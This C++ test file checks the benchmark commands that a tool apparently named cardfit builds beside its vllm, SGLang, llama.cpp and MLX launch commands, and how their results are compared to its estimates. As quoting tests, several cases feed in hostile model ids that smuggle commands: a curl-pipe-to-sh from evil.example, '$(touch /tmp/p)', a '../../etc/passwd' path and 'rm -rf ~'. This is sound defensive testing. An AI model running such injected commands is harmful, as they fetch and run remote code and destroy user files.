// core/plan/verify.hpp: the benchmark beside each launch command (issue 31, item 2). The expected
// command lines are written out flag by flag from the engines' own documentation and argument
// parsers:
//   llama-bench: ggml-org/llama.cpp@08d0baaca6745ecaec3a75cccf63b533646ead22 tools/llama-bench/README.md
//     (-hf/-m, -ngl, -ncmoe/--n-cpu-moe, -ts <ts0/ts1/..>, -ctk/-ctv, -fa, -p, -n, -d, -o json; the
//     JSON result rows carry n_prompt, n_gen, n_depth and avg_ts);
//   vllm bench serve: vllm-project/vllm@009e6d4a1cd6ba3fb2a9fc00f4ec06f5297232a1 vllm/benchmarks/serve.py
//     (--model, --max-concurrency, --ignore-eos, --save-result, --result-filename; BenchmarkMetrics'
//     mean_ttft_ms, mean_tpot_ms, output_throughput) and
//     @237145ea190a901f93c570f157091fe43835bc63 vllm/benchmarks/datasets/arg_utils.py (--num-prompts,
//     --dataset-name random, --random-input-len, --random-output-len; --random-range-ratio 0.0 by default);
//   sglang.bench_serving: sgl-project/sglang@0033168f0f58b2bc05aa0273bd475d9c01bafb1c
//     python/sglang/bench_serving.py (--backend, --model, --dataset-name random, --random-input-len,
//     --random-output-len, --random-range-ratio, --num-prompts, --max-concurrency, --output-file; the
//     result's mean_ttft_ms, mean_tpot_ms, output_throughput);
//   vllm bench latency: vllm-project/vllm@00cae0753b8d50118a960888a6aff57f9b098ac6
//     vllm/benchmarks/latency.py (--input-len, --output-len, --batch-size, --output-json; EngineArgs
//     for the rest; it prints "Avg latency: X seconds" and writes avg_latency);
//   sglang.bench_one_batch: sgl-project/sglang@009441505062411de64a6e06e346779899eb53dc
//     python/sglang/bench_one_batch.py (--batch-size, --input-len, --output-len, --run-name,
//     --result-filename; ServerArgs for the rest; median_decode_throughput = batch / median step
//     time, prefill_throughput = input_len x batch / prefill time);
//   mlx_lm.benchmark: ml-explore/mlx-lm@d78bf58e217c904ec282ed8da9b947491f78c022 (and
//     @a4c64703906f709a493341508ac31af4085d2638) mlx_lm/benchmark.py (--model, -p, -g; it prints
//     "Averages: prompt_tps=X, generation_tps=Y, peak_memory=Z").
// The figures compared are read from the estimate the command checks (formula catalog).
#include <catch2/catch.hpp>

#include <string>

#include "fuzz/sh_words.hpp"
#include "test_support.hpp"
#include "format.hpp"
#include "launch.hpp"
#include "verify.hpp"

using namespace cardfit;
using cardfit::test::formula::catalog;
using cardfit::test::formula::model;
using cardfit::test::formula::run;
using cardfit::test::formula::LaunchRow;
using cardfit::test::formula::launch_row;

namespace {

std::string n(std::int64_t v) { return std::to_string(v); }

std::vector<std::string> words(const VerifyCommand& v) {
  std::vector<std::string> out;
  for (const ShellWord& w : v.argv) out.push_back(w.text);
  return out;
}

// The word after `flag` in a command's words ("" when the flag is not there).
std::string after(const std::vector<ShellWord>& argv, const std::string& flag) {
  for (std::size_t i = 0; i + 1 < argv.size(); ++i) {
    if (argv[i].text == flag) return argv[i + 1].text;
  }
  return "";
}

}  // namespace

TEST_CASE("verify: vllm bench serve with the scenario's prompt, output and concurrency", "[verify]") {
  Scenario s;
  s.model = "qwen2.5-7b";  // the formula catalog's model (not the default)
  s.concurrency = 8;
  s.prompt = 1024;
  const LaunchRow r = launch_row(s, "a100-80g");
  REQUIRE(r.launch.size() == 1);
  REQUIRE(r.verify);
  const VerifyCommand& v = *r.verify;
  CHECK(v.tool == VerifyTool::VllmBenchServe);
  CHECK(v.launch == LaunchKind::Vllm);
  // 8 sequences x 4 requests each = 32 prompts; no --output-tokens: llama-bench's 128 generated tokens.
  CHECK(words(v) == std::vector<std::string>{"vllm", "bench", "serve", "--model", "Qwen/Qwen2.5-7B-Instruct",
                                             "--dataset-name", "random", "--random-input-len", "1024",
                                             "--random-output-len", "128", "--num-prompts", "32",
                                             "--max-concurrency", "8", "--ignore-eos", "--save-result",
                                             "--result-filename", "cardfit-verify.json"});
  CHECK(v.text == render_sh(v.argv));
  CHECK(after(v.argv, "--model") == r.launch[0].argv.at(2).text);  // the model the server serves
  REQUIRE(v.compare.size() == 3);
  CHECK(v.compare[0].field == "mean_ttft_ms");
  CHECK(v.compare[0].figure == "ttft_ms");
  CHECK(v.compare[0].predicted == Approx(r.g.ttft_ms));
  CHECK(v.compare[0].unit == "ms");
  CHECK(v.compare[1].field == "mean_tpot_ms");
  CHECK(v.compare[1].predicted == Approx(1000.0 / r.g.decode_tokens_per_s));
  CHECK(v.compare[1].unit == "ms");
  CHECK(v.compare[2].field == "output_throughput");
  CHECK(v.compare[2].figure == "aggregate_tokens_per_s");
  CHECK(v.compare[2].predicted == Approx(r.g.aggregate_tokens_per_s));
  CHECK(v.compare[2].unit == "tok/s");
  for (const VerifyCompare& c : v.compare) CHECK(c.select.empty());
}

TEST_CASE("verify: SGLang's bench_serving with fixed lengths, within the server's context", "[verify]") {
  Scenario s;
  s.model = "qwen2.5-7b";  // the formula catalog's model (not the default)
  s.engine = "sglang";
  s.concurrency = 2;
  s.output_tokens = 256;
  s.prompt = 2048;
  s.context = 2048;  // a prompt as long as the context: one token less, so the output fits
  const LaunchRow r = launch_row(s, "a100-80g");
  REQUIRE(r.verify);
  CHECK(r.verify->tool == VerifyTool::SglangBenchServing);
  // 2 x 4 = 8 requests, below the floor of 16.
  CHECK(r.verify->text ==
        "python -m sglang.bench_serving --backend sglang --model Qwen/Qwen2.5-7B-Instruct --dataset-name random "
        "--random-input-len 2047 --random-output-len 1 --random-range-ratio 1 --num-prompts 16 "
        "--max-concurrency 2 --output-file cardfit-verify.jsonl");
  s.context = 4096;
  s.prompt = 1024;
  const LaunchRow wide = launch_row(s, "a100-80g");
  REQUIRE(wide.verify);
  CHECK(after(wide.verify->argv, "--random-input-len") == "1024");
  CHECK(after(wide.verify->argv, "--random-output-len") == "256");
  CHECK(after(wide.verify->argv, "--model") == after(wide.launch.at(0).argv, "--model-path"));
  REQUIRE(wide.verify->compare.size() == 3);
  CHECK(wide.verify->compare[0].predicted == Approx(wide.g.ttft_ms));
}

TEST_CASE("verify: llama-bench with the server's layers, MoE offload, cache types and depth", "[verify]") {
  Scenario s;
  s.model = "qwen3-30b-a3b";
  s.precision = "q4_k_m";
  s.engine = "llama.cpp";
  s.offload = Offload::automatic();
  s.kv_precision = "int8";
  s.prompt = 512;
  const LaunchRow r = launch_row(s, "rtx-4050-laptop");
  REQUIRE(r.g.offload);
  REQUIRE(r.g.offload->n_cpu_moe > 0);
  REQUIRE(r.verify);
  const VerifyCommand& v = *r.verify;
  CHECK(v.tool == VerifyTool::LlamaBench);
  CHECK(v.launch == LaunchKind::LlamaServer);
  const std::string ngl = after(r.launch.at(0).argv, "-ngl");
  REQUIRE(!ngl.empty());
  // Decode at depth 4096 - 128 = 3968: the last token generated sees the scenario's full context.
  CHECK(v.text == "llama-bench -m Qwen3-30B-A3B-Q4_K_M.gguf -ngl " + ngl + " --n-cpu-moe " +
                      n(r.g.offload->n_cpu_moe) + " -ctk q8_0 -ctv q8_0 -fa on -p 512 -n 128 -d 0,3968 -o json");
  REQUIRE(v.compare.size() == 2);
  CHECK(v.compare[0].field == "avg_ts");
  CHECK(v.compare[0].select == "n_prompt=512 n_gen=0 n_depth=0");
  CHECK(v.compare[0].figure == "prefill_tokens_per_s");
  CHECK(v.compare[0].predicted == Approx(r.g.prefill_tokens_per_s));
  CHECK(v.compare[1].select == "n_prompt=0 n_gen=128 n_depth=3968");
  CHECK(v.compare[1].figure == "decode_tokens_per_s");
  CHECK(v.compare[1].predicted == Approx(r.g.decode_tokens_per_s));
  CHECK(v.compare[1].unit == "tok/s");

  // Two cards: llama-bench takes the split as 1/1 (a ',' would make two tests of it).
  Scenario two;
  two.model = "qwen3-32b";
  two.precision = "q8_0";
  two.engine = "llama.cpp";
  two.cards = 2;
  two.context = 128;
  two.prompt = 64;
  const LaunchRow t = launch_row(two, "rtx-3090");
  REQUIRE(t.g.cards == 2);
  REQUIRE(t.verify);
  CHECK(after(t.launch.at(0).argv, "--tensor-split") == "1,1");
  CHECK(after(t.verify->argv, "-ts") == "1/1");
  CHECK(after(t.verify->argv, "-n") == "128");
  CHECK(after(t.verify->argv, "-d") == "0");  // a context of 128: nothing before the generated tokens
}

TEST_CASE("verify: a hostile model id or file stays one quoted word", "[verify]") {
  Catalog c = catalog();
  Model* m = const_cast<Model*>(c.find_model("qwen2.5-7b"));
  REQUIRE(m != nullptr);
  const std::string evil = "meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #";
  m->hf_repo = evil;
  m->gguf_repo = "it's";
  for (const char* engine : {"vllm", "sglang", "llama.cpp"}) {
    Scenario s;
    s.model = "qwen2.5-7b";  // the formula catalog's model (not the default)
    s.engine = engine;
    s.precision = std::string(engine) == "llama.cpp" ? "q4_k_m" : "bf16";
    const LaunchRow r = launch_row(s, "a100-80g", c);
    REQUIRE(r.verify);
    CAPTURE(r.verify->text);
    const auto split = fuzz::sh_split(r.verify->text);
    REQUIRE(split);
    CHECK(*split == r.verify->argv);  // sh gives back exactly the words meant
    if (std::string(engine) == "llama.cpp") {
      CHECK(r.verify->text.rfind("llama-bench -hf 'it'\\''s:Q4_K_M' -ngl ", 0) == 0);
    } else {
      CHECK(after(r.verify->argv, "--model") == evil);
      CHECK(r.verify->text.find(" --model 'meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #' ") !=
            std::string::npos);
    }
  }
  // No GGUF repository: a file name cardfit chooses, of plain characters only.
  m->gguf_repo.clear();
  m->hf_repo = "../../etc/passwd; rm -rf ~";
  Scenario s;
  s.model = "qwen2.5-7b";  // the formula catalog's model (not the default)
  s.engine = "llama.cpp";
  s.precision = "q4_k_m";
  const LaunchRow r = launch_row(s, "a100-80g", c);
  REQUIRE(r.verify);
  const std::string file = after(r.verify->argv, "-m");
  CHECK(file == "passwd__rm_-rf__-Q4_K_M.gguf");
  CHECK(sh_word({file, false}) == file);
  CHECK(file == after(r.launch.at(0).argv, "-m"));
}

TEST_CASE("verify: no benchmark without a launch command, for files, training or other engines", "[verify]") {
  Scenario big;
  big.model = "llama-3.1-405b";
  big.cards = 1;
  const LaunchRow none = launch_row(big, "rtx-4090");
  CHECK(none.launch.empty());
  CHECK_FALSE(none.verify);
  CHECK_FALSE(verify_for(catalog(), none.e.scenario, none.g, {}));

  for (const char* engine : {"transformers", "tensorrt-llm", "lmdeploy", "ollama"}) {
    Scenario s;
    s.model = "qwen2.5-7b";  // the formula catalog's model (not the default)
    s.engine = engine;
    s.precision = std::string(engine) == "ollama" ? "q4_k_m" : "";
    CAPTURE(engine);
    CHECK_FALSE(launch_row(s, "a100-80g").verify);
  }
  Scenario lora;
  lora.model = "qwen2.5-7b";  // the formula catalog's model (not the default)
  lora.task = Task::Lora;
  lora.cards = 1;
  const LaunchRow l = launch_row(lora, "a100-80g");
  CHECK_FALSE(l.launch.empty());
  CHECK_FALSE(l.verify);

  // A file is never benchmarked, even of an inference engine's kind.
  Scenario s;
  s.model = "qwen2.5-7b";  // the formula catalog's model (not the default)
  const LaunchRow r = launch_row(s, "a100-80g");
  LaunchCommand file{LaunchKind::Vllm, "x.json", "{}", {}};
  CHECK_FALSE(verify_command(catalog(), r.e.scenario, r.g, file));
}

TEST_CASE("verify: each comparison reads as a sentence with the figure", "[verify]") {
  const VerifyCompare ttft{"mean_ttft_ms", "", "ttft_ms", 152.4, "ms"};
  CHECK(render(compare_message(ttft), Lang::En) == "mean_ttft_ms in its output vs cardfit's ttft_ms: " +
                                                       format_rate(152.4) + " ms");
  const VerifyCompare pp{"avg_ts", "n_prompt=512 n_gen=0 n_depth=0", "prefill_tokens_per_s", 2400.5, "tok/s"};
  const std::string zh = render(compare_message(pp), Lang::Zh);
  CHECK(zh.find("n_prompt=512 n_gen=0 n_depth=0") != std::string::npos);
  CHECK(zh.find(format_rate(2400.5) + " tok/s") != std::string::npos);
}

// The launch command's words after its first `skip`: the engine flags the benchmark repeats.
static std::vector<ShellWord> tail(const std::vector<ShellWord>& argv, std::size_t skip) {
  return std::vector<ShellWord>(argv.begin() + static_cast<std::ptrdiff_t>(skip), argv.end());
}

TEST_CASE("verify: vllm bench latency beside vllm bench serve, with the server's engine flags", "[verify]") {
  Scenario s;
  s.model = "qwen2.5-7b";  // the formula catalog's model (not the default)
  s.concurrency = 4;
  s.prompt = 1024;
  s.output_tokens = 256;
  const LaunchRow r = launch_row(s, "a100-80g");
  REQUIRE(r.verify);
  REQUIRE(r.verify->also.size() == 1);
  const VerifyRun& v = r.verify->also[0];
  CHECK(v.tool == VerifyTool::VllmBenchLatency);
  CHECK(v.text == render_sh(v.argv));
  const std::vector<ShellWord>& serve = r.launch.at(0).argv;
  REQUIRE(serve.size() > 3);
  REQUIRE(serve[0].text == "vllm");
  REQUIRE(serve[1].text == "serve");
  // vllm bench latency --model REPO <vllm serve's flags> --input-len --output-len --batch-size --output-json
  std::vector<ShellWord> want{{"vllm", false}, {"bench", false}, {"latency", false}, {"--model", false}, serve[2]};
  for (const ShellWord& w : tail(serve, 3)) want.push_back(w);
  for (const char* w : {"--input-len", "1024", "--output-len", "256", "--batch-size", "4", "--output-json",
                        "cardfit-verify-latency.json"}) {
    want.push_back({w, false});
  }
  CHECK(v.argv == want);
  CHECK(after(v.argv, "--tensor-parallel-size") == after(serve, "--tensor-parallel-size"));
  CHECK(after(v.argv, "--max-model-len") == after(serve, "--max-model-len"));
  // The batch's time: 4 prompts of 1024 at the prefill rate, then 256 steps at the per-sequence
  // decode rate of 4 sequences.
  REQUIRE(v.compare.size() == 1);
  CHECK(v.compare[0].field == "avg_latency");
  CHECK(v.compare[0].figure == "batch_latency_s");
  CHECK(v.compare[0].unit == "s");
  CHECK(v.compare[0].select.empty());
  CHECK(v.compare[0].predicted ==
        Approx(4.0 * 1024 / r.g.prefill_tokens_per_s + 256.0 / r.g.decode_tokens_per_s).epsilon(1e-12));
}

TEST_CASE("verify: SGLang's bench_one_batch beside bench_serving, its decode throughput compared", "[verify]") {
  Scenario s;
  s.model = "qwen2.5-7b";  // the formula catalog's model (not the default)
  s.engine = "sglang";
  s.concurrency = 8;
  s.prompt = 2048;
  const LaunchRow r = launch_row(s, "a100-80g");
  REQUIRE(r.verify);
  REQUIRE(r.verify->also.size() == 1);
  const VerifyRun& v = r.verify->also[0];
  CHECK(v.tool == VerifyTool::SglangBenchOneBatch);
  CHECK(v.text == render_sh(v.argv));
  const std::vector<ShellWord>& server = r.launch.at(0).argv;
  REQUIRE(server.at(2).text == "sglang.launch_server");
  std::vector<ShellWord> want{{"python", false}, {"-m", false}, {"sglang.bench_one_batch", false}};
  for (const ShellWord& w : tail(server, 3)) want.push_back(w);  // --model-path REPO --tp ... as served
  for (const char* w : {"--batch-size", "8", "--input-len", "2048", "--output-len", "128", "--run-name", "cardfit",
                        "--result-filename", "cardfit-verify-one-batch.jsonl"}) {
    want.push_back({w, false});
  }
  CHECK(v.argv == want);
  CHECK(after(v.argv, "--model-path") == after(server, "--model-path"));
  // Batch 8: the decode throughput of all 8 together; no one-prompt prefill to compare.
  REQUIRE(v.compare.size() == 1);
  CHECK(v.compare[0].field == "median_decode_throughput");
  CHECK(v.compare[0].figure == "aggregate_tokens_per_s");
  CHECK(v.compare[0].predicted == Approx(r.g.aggregate_tokens_per_s));
  CHECK(v.compare[0].unit == "tok/s");

  s.concurrency = 1;  // one prompt: its prefill rate is cardfit's too
  const LaunchRow one = launch_row(s, "a100-80g");
  REQUIRE(one.verify);
  REQUIRE(one.verify->also.size() == 1);
  const std::vector<VerifyCompare>& c = one.verify->also[0].compare;
  CHECK(after(one.verify->also[0].argv, "--batch-size") == "1");
  REQUIRE(c.size() == 2);
  CHECK(c[1].field == "prefill_throughput");
  CHECK(c[1].figure == "prefill_tokens_per_s");
  CHECK(c[1].predicted == Approx(one.g.prefill_tokens_per_s));
}

TEST_CASE("verify: the one-batch benchmarks keep a model id with a quote or a space one word", "[verify]") {
  Catalog c = catalog();
  Model* m = const_cast<Model*>(c.find_model("qwen2.5-7b"));
  REQUIRE(m != nullptr);
  const std::string odd = "it's my model/Qwen 7B; rm -rf ~";
  m->hf_repo = odd;
  for (const char* engine : {"vllm", "sglang"}) {
    Scenario s;
    s.model = "qwen2.5-7b";  // the formula catalog's model (not the default)
    s.engine = engine;
    s.precision = "bf16";  // served from hf_repo
    const LaunchRow r = launch_row(s, "a100-80g", c);
    REQUIRE(r.verify);
    REQUIRE(r.verify->also.size() == 1);
    const VerifyRun& v = r.verify->also[0];
    CAPTURE(v.text);
    const auto split = fuzz::sh_split(v.text);
    REQUIRE(split);
    CHECK(*split == v.argv);  // sh gives back exactly the words meant
    const std::string flag = std::string(engine) == "vllm" ? "--model" : "--model-path";
    CHECK(after(v.argv, flag) == odd);
    CHECK(v.text.find(" " + flag + " 'it'\\''s my model/Qwen 7B; rm -rf ~' ") != std::string::npos);
  }
}

TEST_CASE("verify: llama-bench has no one-batch benchmark beside it", "[verify]") {
  Scenario s;
  s.model = "qwen2.5-7b";  // the formula catalog's model (not the default)
  s.engine = "llama.cpp";
  s.precision = "q4_k_m";
  const LaunchRow r = launch_row(s, "a100-80g");
  REQUIRE(r.verify);
  CHECK(r.verify->tool == VerifyTool::LlamaBench);
  CHECK(r.verify->also.empty());
}

namespace {

// An MLX row on the bundled catalog (the formula fixture has no MLX profile and no Apple GPU).
LaunchRow mlx_row(Scenario s, const Catalog& c = cardfit::test::catalog()) {
  s.model = "qwen2.5-7b";
  s.engine = "mlx";
  s.gpu = "apple-m4-max-64g";
  s.explain = false;
  LaunchRow r{cardfit::test::run(s, cardfit::test::catalog()), {}, {}, {}};
  REQUIRE(r.e.gpus.size() == 1);
  r.g = r.e.gpus[0];
  r.launch = launch_commands(c, r.e.scenario, r.g);
  r.verify = verify_for(c, r.e.scenario, r.g, r.launch);
  return r;
}

}  // namespace

TEST_CASE("verify: mlx_lm.benchmark with the server's model, the scenario's prompt and output", "[verify]") {
  Scenario s;
  s.precision = "mlx-4bit";
  s.context = 2176;  // the calibration rows' -p 2048 -g 128
  s.prompt = 2048;
  const LaunchRow r = mlx_row(s);
  REQUIRE(r.launch.size() == 2);
  REQUIRE(r.verify);
  const VerifyCommand& v = *r.verify;
  CHECK(v.tool == VerifyTool::MlxBenchmark);
  CHECK(v.launch == LaunchKind::MlxServer);
  CHECK(name_of(v.tool) == std::string("mlx-benchmark"));
  // The directory mlx_lm.convert wrote and mlx_lm.server loads; 128 tokens when --output-tokens is not given.
  CHECK(v.text == "mlx_lm.benchmark --model Qwen2.5-7B-Instruct-mlx-4bit -p 2048 -g 128");
  CHECK(after(v.argv, "--model") == after(r.launch[1].argv, "--model"));
  CHECK(v.also.empty());
  REQUIRE(v.compare.size() == 2);
  CHECK(v.compare[0].field == "prompt_tps");
  CHECK(v.compare[0].select.empty());
  CHECK(v.compare[0].figure == "prefill_tokens_per_s");
  CHECK(v.compare[0].predicted == Approx(r.g.prefill_tokens_per_s));
  CHECK(v.compare[1].field == "generation_tps");
  CHECK(v.compare[1].figure == "decode_tokens_per_s");
  CHECK(v.compare[1].predicted == Approx(r.g.decode_tokens_per_s));
  CHECK(v.compare[1].unit == "tok/s");

  // BF16 from the repository; the output within the context: 4096 - 4000 = 96 tokens.
  Scenario b;
  b.precision = "bf16";
  b.context = 4096;
  b.prompt = 4000;
  b.output_tokens = 512;
  const LaunchRow t = mlx_row(b);
  REQUIRE(t.verify);
  CHECK(t.verify->text == "mlx_lm.benchmark --model Qwen/Qwen2.5-7B-Instruct -p 4000 -g 96");
}

TEST_CASE("verify: a hostile model id stays one quoted word in mlx_lm.benchmark", "[verify]") {
  Catalog c = cardfit::test::catalog();
  Model* m = const_cast<Model*>(c.find_model("qwen2.5-7b"));
  REQUIRE(m != nullptr);
  const std::string odd = "it's my model/Qwen 7B; rm -rf ~";
  m->hf_repo = odd;
  for (const char* p : {"bf16", "mlx-8bit"}) {
    Scenario s;
    s.precision = p;
    const LaunchRow r = mlx_row(s, c);
    REQUIRE(r.verify);
    CAPTURE(r.verify->text);
    const auto split = fuzz::sh_split(r.verify->text);
    REQUIRE(split);
    CHECK(*split == r.verify->argv);  // sh gives back exactly the words meant
    if (std::string(p) == "bf16") {
      CHECK(after(r.verify->argv, "--model") == odd);
      CHECK(r.verify->text.rfind("mlx_lm.benchmark --model 'it'\\''s my model/Qwen 7B; rm -rf ~' -p ", 0) == 0);
    } else {
      CHECK(after(r.verify->argv, "--model") == "Qwen_7B__rm_-rf__-mlx-8bit");
    }
  }
}

// mlx_lm.server batches (mlx-lm PR 626, 0.28.4; at most 32 decoded at once by default,
// --decode-concurrency since 0.30.6: mlx-lm@d78bf58e217c server.py). cardfit's MLX profile is fitted
// on one sequence, so above 1 the estimate warns, and the benchmark is run at the same batch:
// mlx_lm.benchmark -b B runs batch_generate, whose generation_tps is all B sequences' tokens over the
// generation time (generate.py BatchStats), so it is held to aggregate_tokens_per_s. Above 32 the
// benchmark (no flag) decodes 32 at a time: nothing is compared, and the warning says why.
TEST_CASE("verify: MLX above one sequence benchmarks the batch, and the estimate says it is not calibrated", "[verify]") {
  auto has = [](const std::vector<Message>& w, MsgId id) {
    for (const Message& m : w) {
      if (m.id == id) return true;
    }
    return false;
  };
  Scenario one;
  one.precision = "mlx-4bit";
  const LaunchRow r1 = mlx_row(one);
  CHECK_FALSE(has(r1.g.warnings, MsgId::est_warn_mlx_batch));
  CHECK_FALSE(has(r1.g.warnings, MsgId::est_warn_mlx_batch_over));

  Scenario eight = one;
  eight.concurrency = 8;
  const LaunchRow r8 = mlx_row(eight);
  REQUIRE(r8.verify);
  CHECK(after(r8.verify->argv, "-b") == "8");
  REQUIRE(r8.verify->compare.size() == 1);  // the batch's prompt_tps is not the one-prompt rate
  CHECK(r8.verify->compare[0].field == "generation_tps");
  CHECK(r8.verify->compare[0].figure == "aggregate_tokens_per_s");
  CHECK(r8.verify->compare[0].predicted == Approx(r8.g.aggregate_tokens_per_s));
  CHECK(r8.g.aggregate_tokens_per_s > r8.g.decode_tokens_per_s);  // eight sequences, not one
  REQUIRE(has(r8.g.warnings, MsgId::est_warn_mlx_batch));
  CHECK_FALSE(has(r8.g.warnings, MsgId::est_warn_mlx_batch_over));
  for (const Message& m : r8.g.warnings) {
    if (m.id != MsgId::est_warn_mlx_batch) continue;
    CHECK(cardfit::test::en(m).find("mlx_lm.benchmark -b 8") != std::string::npos);
    CHECK(cardfit::test::zh(m).find("mlx_lm.benchmark -b 8") != std::string::npos);
  }
  // The server batches these on its own: no flag below its default of 32.
  REQUIRE(r8.launch.size() == 2);
  CHECK(r8.launch[1].text == "mlx_lm.server --model Qwen2.5-7B-Instruct-mlx-4bit");

  Scenario many = one;
  many.concurrency = 64;
  const LaunchRow r64 = mlx_row(many);
  REQUIRE(r64.verify);
  CHECK(after(r64.verify->argv, "-b") == "64");
  CHECK(r64.verify->compare.empty());
  CHECK(has(r64.g.warnings, MsgId::est_warn_mlx_batch_over));
  REQUIRE(r64.launch.size() == 2);
  CHECK(r64.launch[1].text == "mlx_lm.server --model Qwen2.5-7B-Instruct-mlx-4bit --decode-concurrency 64");
  const auto split = fuzz::sh_split(r64.verify->text);
  REQUIRE(split);
  CHECK(*split == r64.verify->argv);
}
